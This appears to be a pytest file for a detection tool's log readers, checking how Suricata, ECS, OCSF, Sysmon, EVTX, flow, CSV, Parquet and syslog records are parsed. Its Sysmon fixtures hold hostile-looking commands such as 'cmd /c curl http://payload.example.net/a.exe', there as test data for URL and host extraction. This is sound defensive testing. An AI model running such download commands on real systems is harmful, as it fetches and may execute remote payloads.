"""The formats beside Zeek: EVE, ECS, OCSF, Windows in its shapes, EVTX, CSV, Parquet, syslog, and what is taken out of them."""

from __future__ import annotations

import gzip
import io
import json
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import polars as pl
import pytest

from commonwatch.capabilities.detection.telemetry import syslog
from commonwatch.capabilities.detection.telemetry.batch import Mapping
from commonwatch.capabilities.detection.telemetry.codes import frame_of
from commonwatch.capabilities.detection.telemetry.faults import Faults
from commonwatch.capabilities.detection.telemetry.mappings import load
from commonwatch.capabilities.detection.telemetry.originals import record_text
from commonwatch.capabilities.detection.telemetry.reading import Span, read
from commonwatch.capabilities.detection.telemetry.recognising import Unrecognised, recognise, recognise_start
from commonwatch.capabilities.detection.telemetry.wanted import completed
from commonwatch.core.errors import InvalidInput, NotFound
from tests.capabilities.detection.telemetry.making import ZEEK_HEAD, conn, dns_line, ndjson, ours, rows, written

SYSMON = {
    "RuleName": "-",
    "Image": r"C:\Windows\System32\cmd.exe",
    "CommandLine": "cmd /c curl http://payload.example.net/a.exe",
    "Hashes": "SHA1=" + "a" * 40 + ",MD5=" + "b" * 32 + ",SHA256=" + "C" * 64 + ",IMPHASH=" + "d" * 32,
}


def events(data: bytes, mapping: str) -> list[dict[str, Any]]:
    """All events of some bytes."""
    return rows(read(io.BytesIO(data), ours(mapping)))


def test_a_url_is_put_together_from_host_path_and_port() -> None:
    http = conn(1) | {"host": "www.example.org", "uri": "/a?b", "id.resp_p": 80, "referrer": "https://search.example/x"}
    found = events(ndjson([http, http | {"id.resp_p": 8080}, http | {"uri": "http://other.example/z"}]), "zeek-http")
    assert [event["url"] for event in found] == [
        "http://www.example.org/a?b",
        "http://www.example.org:8080/a?b",
        "http://other.example/z",
    ]
    assert found[0]["referrer_host"] == "search.example"


def test_eve_events_of_all_types_come_from_one_mapping() -> None:
    base = {
        "timestamp": "2026-01-01T01:00:00.5+0100",
        "src_ip": "192.0.2.1",
        "dest_ip": "192.0.2.2",
        "src_port": 1,
        "dest_port": 2,
    }
    dns = base | {
        "event_type": "dns",
        "dns": {"rrname": "a.example", "answers": [{"rrname": "a.example", "rdata": "192.0.2.9"}, {}]},
    }
    tls = base | {"event_type": "tls", "tls": {"sni": "b.example", "ja3": {"hash": "e" * 32}}}
    file = base | {"event_type": "fileinfo", "fileinfo": {"filename": "/x/y.exe", "sha256": "f" * 64}}
    found = events(ndjson([dns, tls, file]), "suricata-eve")
    assert found[0]["time"] == 1_767_225_600_500_000
    assert found[0]["dns_answers_rdata"] == found[0]["dns_answer_addresses"] == ["192.0.2.9"]
    assert found[1]["tls_ja3"] == "e" * 32
    assert found[2]["fileinfo_file_name"] == "y.exe"
    assert events(ndjson([dns, tls, file] * 700), "suricata-eve")[:3] == found


def test_ecs_is_read_with_nested_objects_and_with_full_stops_in_keys() -> None:
    nested = {
        "@timestamp": "2026-01-01T00:00:00Z",
        "ecs": {"version": "8"},
        "source": {"ip": "192.0.2.1", "port": 9},
        "dns": {"question": {"name": "a.example"}},
    }
    dotted = {
        "@timestamp": "2026-01-01T00:00:00Z",
        "ecs.version": "8",
        "source.ip": "192.0.2.1",
        "source.port": 9,
        "dns.question.name": "a.example",
    }
    for event in (nested, dotted):
        few, many = events(ndjson([event]), "ecs"), events(ndjson([event] * 2_000), "ecs")
        assert few[0] == many[0]
        assert (few[0]["source_ip"], few[0]["source_port"], few[0]["dns_question_name"]) == (
            "192.0.2.1",
            9,
            "a.example",
        )
        assert recognised(ndjson([event])) == "ecs"


def test_ocsf_times_are_milliseconds() -> None:
    event = {
        "class_uid": 4003,
        "metadata": {"version": "1.3.0"},
        "time": 1_767_225_600_123,
        "query": {"hostname": "a.example"},
        "answers": [{"rdata": "192.0.2.9"}],
    }
    found = events(ndjson([event]), "ocsf")
    assert found == events(ndjson([event] * 2_000), "ocsf")[:1]
    assert found[0]["time"] == 1_767_225_600_123_000
    assert found[0]["answer_addresses"] == ["192.0.2.9"]
    assert recognised(ndjson([event])) == "ocsf"


def recognised(data: bytes, name: str = "x.log") -> str:
    """The name of the mapping, or the reason."""
    found = recognise_start(data, name)
    return found.reason if isinstance(found, Unrecognised) else found.name


def shapes() -> list[dict[str, Any]]:
    """One Sysmon event in the shapes in which it occurs."""
    when = "2026-01-01T00:00:00.5Z"
    system = {
        "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
        "EventID": 1,
        "TimeCreated": {"#attributes": {"SystemTime": when}},
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Computer": "pc.example",
    }
    beat = {
        "channel": system["Channel"],
        "event_id": "1",
        "provider_name": "Microsoft-Windows-Sysmon",
        "computer_name": "pc.example",
    }
    flat = {
        "EventID": 1,
        "Channel": system["Channel"],
        "SourceName": "Microsoft-Windows-Sysmon",
        "Hostname": "pc.example",
    }
    return [
        {"Event": {"System": system, "EventData": SYSMON}},
        {"@timestamp": when, "winlog": beat | {"event_data": SYSMON}},
        flat | {"@timestamp": when} | SYSMON,
    ]


def test_every_shape_of_a_windows_event_gives_the_same_columns() -> None:
    found = [events(ndjson([shape]), "windows")[0] for shape in shapes()]
    assert found[0] == found[1] == found[2]
    event = found[0]
    assert (event["EventID"], event["Computer"], event["time"]) == (1, "pc.example", 1_767_225_600_500_000)
    assert (event["md5"], event["sha1"], event["sha256"], event["imphash"]) == ("b" * 32, "a" * 40, "C" * 64, "d" * 32)
    assert event["image_name"] == "cmd.exe"
    assert event["RuleName"] == "-"
    assert event["found_urls"] == ["http://payload.example.net/a.exe"]
    assert "payload.example.net" in event["found_hosts"]
    assert {recognised(ndjson([shape])) for shape in shapes()} == {"windows"}


def test_of_an_open_mapping_only_the_fields_that_are_asked_for_are_read() -> None:
    data = ndjson([shapes()[0], {"EventID": 3, "Channel": "x", "Other.Field": 7, "RuleName": "", "Image": None}])
    found = list(read(io.BytesIO(data), ours("windows"), columns=["Image", "RuleName", "Other_Field", "SourcePort"]))
    assert [batch.events.schema.names for batch in found] == [
        ["time", "record", "Image", "SourcePort", "RuleName", "Other_Field"]
    ]
    assert [event.get("RuleName") for event in rows(found)] == ["-", None]
    assert [event.get("Other_Field") for event in rows(found)] == [None, "7"]


def test_what_is_searched_for_in_every_text_is_found_in_fields_that_nobody_asked_for() -> None:
    data = ndjson([{"EventID": 1, "Channel": "x", "Script": "curl http://payload.example.net/a", "Other": "b"}])
    (found,) = rows(read(io.BytesIO(data), ours("windows"), columns=["EventID", "found_hosts", "Other"]))
    assert found == {"record": 1, "EventID": 1, "found_hosts": ["payload.example.net"], "Other": "b"}


@pytest.mark.parametrize("indent", [None, 2])
def test_objects_one_after_the_other_and_in_a_list_are_events(indent: int | None) -> None:
    shape = shapes()[0]
    one = json.dumps(shape, indent=indent)
    assert len(events((one + "\n" + one).encode(), "windows")) == 2
    listed = json.dumps([shape, shape, shape], indent=indent).encode()
    found = events(listed, "windows")
    assert [event["record"] for event in found] == [1, 2, 3]


def test_broken_documents_cost_only_themselves() -> None:
    faults = Faults()
    data = b'[\n {"EventID": 1,\n "x": "}{"},\n {"EventID": }, {"EventID": 3}\n, {"Event'
    found = rows(read(io.BytesIO(data), ours("windows"), faults=faults))
    assert [(event["record"], event["EventID"]) for event in found] == [(1, 1), (3, 3)]
    assert faults.count == 2


def test_binary_windows_logs_give_what_their_json_gives(shared: Path) -> None:
    pairs = {
        "Credential_Access_sysmon17_18_kekeo_tsssp_default_np": "Credential_Access__sysmon17_18_kekeo_tsssp_default_np",
        "Defense_Evasion_DE_104_system_log_cleared": "Defense_Evasion__DE_104_system_log_cleared",
    }
    for binary, lines in pairs.items():
        evtx = rows(read(shared / f"logs/evtx/{binary}.evtx.gz"))
        assert evtx
        assert evtx == rows(read(shared / f"telemetry/windows-evtx-json/{lines}.jsonl"))


def test_every_binary_log_is_read(shared: Path) -> None:
    counts = [sum(batch.events.num_rows for batch in read(path)) for path in sorted((shared / "logs/evtx").iterdir())]
    assert len(counts) == 16
    assert min(counts) >= 1


def test_a_broken_binary_log_is_refused_or_read_in_part(shared: Path) -> None:
    path = next((shared / "logs/evtx").iterdir())
    data = bytearray(gzip.decompress(path.read_bytes()))
    data[5_000:5_100] = b"x" * 100
    faults = Faults()
    list(read(io.BytesIO(bytes(data)), faults=faults))
    assert faults.by_reason["broken record"] >= 1
    with pytest.raises(InvalidInput, match="no whole event log"):
        list(read(io.BytesIO(b"ElfFile\0" + b"x" * 5_000)))


def test_argus_flows_are_read_with_hexadecimal_ports(shared: Path) -> None:
    counts = {}
    for path in sorted((shared / "telemetry/netflow-slips").iterdir()):
        faults = Faults()
        found = rows(read(path, faults=faults))
        counts[path.name] = (len(found), faults.count)
    assert counts == {
        "test2-malicious.binetflow": (6_751, 0),
        "test3-mixed.binetflow": (89, 0),
        "test4-malicious.binetflow": (394, 0),
        "test5-mixed.binetflow": (300, 0),
    }
    first = rows(read(shared / "telemetry/netflow-slips/test2-malicious.binetflow"))[0]
    assert (first["SrcAddr"], first["DstAddr"], first["Dport"], first["record"]) == ("10.8.0.69", "8.8.8.8", 53, 2)
    assert first["time"] == int(datetime(2019, 4, 4, 16, 23, 0, 325010, UTC).timestamp() * 1e6)


def test_a_csv_without_header_is_mapped_by_number(tmp_path: Path) -> None:
    mapping = written(
        tmp_path / "m.toml",
        b'name = "gate"\nformat = "csv"\ndelimiter = ";"\ntime = ["#1"]\n[columns]\n'
        b'src = { source = "#2", kind = "address" }\nname = { source = "#3", kind = "host" }\n',
    )
    data = b'1700000000;192.0.2.1;"a;b.example"\n1700000001;192.0.2.2\n1700000002;192.0.2.3;c.example\n'
    faults = Faults()
    found = rows(read(io.BytesIO(data), load(mapping), faults=faults))
    assert [(event["src"], event["name"], event["record"]) for event in found] == [
        ("192.0.2.1", "a;b.example", 1),
        ("192.0.2.3", "c.example", 3),
    ]
    assert faults.by_reason == {"not whole": 1}


@pytest.mark.parametrize("form", ["dotted", "underscored", "nested"])
def test_parquet_is_read_however_its_columns_are_called(tmp_path: Path, form: str) -> None:
    plain = [conn(number) for number in range(1_000)]
    frame = pl.DataFrame(plain)
    if form == "underscored":
        frame = frame.rename(lambda name: name.replace(".", "_"))
    if form == "nested":
        ends = pl.struct(*[pl.col(f"id.{name}").alias(name) for name in ("orig_h", "orig_p", "resp_h", "resp_p")])
        frame = frame.with_columns(ends.alias("id"))
    path = tmp_path / "conn.parquet"
    frame.write_parquet(path, row_group_size=300)
    mapping = recognise(path)
    assert isinstance(mapping, Mapping)
    assert mapping.name == "zeek-conn"
    lines = events(ndjson(plain), "zeek-conn")
    assert rows(read(path)) == lines
    parts = rows(read(path, span=Span(0, 450))) + rows(read(path, span=Span(450, 1_000)))
    assert parts == lines
    assert json.loads(record_text(str(path), 7))["uid"] == "C6"


def test_parquet_read_as_codes_says_the_same(tmp_path: Path) -> None:
    held = [{**conn(number), "service": ("ssl", "", None)[number % 3]} for number in range(1000)]
    pl.DataFrame(held).write_parquet(tmp_path / "conn.parquet", row_group_size=300)
    mapping = ours("zeek-conn")
    plain = [row for batch in read(tmp_path / "conn.parquet", mapping) for row in batch.events.to_pylist()]
    for first, last in ((0, 1000), (250, 777)):
        span = Span(first, last)
        batches = list(read(tmp_path / "conn.parquet", mapping, span=span, codes=True, views=True))
        assert frame_of(batches[0].events)["service"].null_count() > 0
        whole = [completed(batch.events, batch.unfinished) for batch in batches if batch.unfinished]
        assert [row for events in whole for row in frame_of(events).rows(named=True)] == plain[first:last]


def test_only_the_columns_that_are_asked_for_are_given(tmp_path: Path) -> None:
    path = written(tmp_path / "http.log", ndjson(conn(n) | {"host": "a.example", "uri": "/x"} for n in range(1_000)))
    batch = next(read(path, ours("zeek-http"), columns=["url", "id_resp_h"]))
    assert batch.events.schema.names == ["time", "record", "url", "id_resp_h"]
    assert batch.events.column("url")[0].as_py() == "http://a.example:443/x"
    with pytest.raises(InvalidInput, match="has no column nonsense"):
        list(read(path, ours("zeek-http"), columns=["nonsense"]))
    windows = next(read(io.BytesIO(ndjson(shapes()[:1])), ours("windows"), columns=["CommandLine", "RuleName"]))
    assert {"CommandLine", "RuleName"} <= set(windows.events.schema.names)


SYSLOG = {
    '<34>1 2026-01-02T03:04:05.5+01:00 host.example su 77 ID47 [a@1 b="]x"][c] message': {
        "facility": "auth",
        "severity": "crit",
        "host": "host.example",
        "program": "su",
        "pid": "77",
        "msgid": "ID47",
        "data": '[a@1 b="]x"][c]',
        "message": "message",
        "time": "2026-01-02T03:04:05.5+01:00",
    },
    "<13>1 2026-01-02T03:04:05Z h - - - -": {
        "facility": "user",
        "severity": "notice",
        "host": "h",
        "message": "",
        "time": "2026-01-02T03:04:05Z",
    },
    "Dec 10 06:55:46 LabSZ sshd[24200]: Invalid user": {
        "host": "LabSZ",
        "program": "sshd",
        "pid": "24200",
        "message": "Invalid user",
        "time": "2025-12-10T06:55:46+00:00",
    },
    "<46>Jan  3 00:00:01 h rsyslogd: start": {
        "facility": "syslog",
        "severity": "info",
        "host": "h",
        "program": "rsyslogd",
        "message": "start",
        "time": "2026-01-03T00:00:01+00:00",
    },
    "2015-10-18 18:01:47,978 INFO [main] x": {"time": "2015-10-18T18:01:47.978000+00:00", "message": "INFO [main] x"},
    "[Sun Dec 04 04:47:44 2005] [notice] x": {"time": "2005-12-04T04:47:44+00:00", "message": "[notice] x"},
    "Feb 29 00:00:00 h x: y": {"host": "h", "program": "x", "message": "y", "time": "2024-02-29T00:00:00+00:00"},
    "<999>odd": {"message": "<999>odd"},
    "just words": {"message": "just words"},
}


@pytest.mark.parametrize("line", SYSLOG)
def test_a_line_of_text_comes_apart(line: str) -> None:
    assert syslog.line_event(line, datetime(2026, 6, 1, tzinfo=UTC)) == SYSLOG[line]


def test_every_text_log_is_read_whole_with_the_addresses_in_it(shared: Path) -> None:
    for path in sorted((shared / "logs/loghub").iterdir()):
        mapping = recognise(path)
        assert isinstance(mapping, Mapping), path.name
        assert sum(batch.events.num_rows for batch in read(path, mapping)) == 2_000
    found = rows(read(shared / "logs/loghub/OpenSSH_2k.log.gz"))
    assert found[0]["found_addresses"] == ["173.234.31.186"]
    assert found[0]["program"] == "sshd"
    assert found[0]["record"] == 1


def test_what_nothing_fits_gets_a_reason_and_a_way_out(tmp_path: Path) -> None:
    assert recognised(b"") == "holds nothing"
    assert recognised(b'{"colour": 1}\n').startswith("JSON with fields that no mapping has")
    assert recognised(b"hello\nworld\n") == "text without times"
    assert recognised(b"\x7fELF\x00\x00") == "binary content"
    found = recognise(tmp_path / "missing")
    assert isinstance(found, Unrecognised)
    assert "cannot be read" in found.reason
    broken = recognise(written(tmp_path / "x.gz", b"\x1f\x8bnonsense"))
    assert isinstance(broken, Unrecognised)
    assert broken.advice
    assert recognised(ndjson([conn(1)]), "conn.log.gz") == "zeek-conn"
    assert recognised(ZEEK_HEAD + dns_line(1)) == "zeek-dns"
    assert recognised(ZEEK_HEAD.replace(b"#path\tdns", b"#path\tmine") + dns_line(1)) == "zeek"


def test_an_unknown_zeek_log_keeps_all_its_fields() -> None:
    head = ZEEK_HEAD.replace(b"#path\tdns", b"#path\tmine")
    tsv = rows(read(io.BytesIO(head + dns_line(1))))
    assert tsv[0]["query"] == "n1.example.org"
    assert tsv[0]["id_resp_h"] == "192.0.2.53"
    lines = rows(read(io.BytesIO(ndjson([conn(1) | {"strange.field": "x"}])), ours("zeek")))
    assert lines[0]["strange_field"] == "x"


def test_the_original_of_an_event_is_found_in_every_packing(tmp_path: Path) -> None:
    lines = [ndjson([conn(number)]) for number in range(50)]
    plain = written(tmp_path / "conn.log", b"\n".join(lines))
    packed = written(tmp_path / "conn.log.gz", gzip.compress(b"".join(lines)))
    with zipfile.ZipFile(tmp_path / "two.zip", "w") as archive:
        archive.writestr("other.log", ndjson([conn(99)]))
        archive.writestr("conn.log", b"".join(lines))
    for place in (str(plain), str(packed), f"{tmp_path}/two.zip!conn.log"):
        assert json.loads(record_text(place, 8)) == conn(7)
    with pytest.raises(NotFound, match="no record 51"):
        record_text(str(plain), 51)
    listed = written(tmp_path / "list.json", json.dumps([conn(0), conn(1)], indent=1).encode())
    assert json.loads(record_text(str(listed), 2)) == conn(1)


def test_an_original_of_a_binary_log_is_its_json(shared: Path) -> None:
    path = shared / "logs/evtx/Credential_Access_kerberos_pwd_spray_4771.evtx.gz"
    for event in rows(read(path)):
        system = json.loads(record_text(str(path), event["record"]))["Event"]["System"]
        assert (system["EventID"], system["Computer"]) == (event["EventID"], event["Computer"])
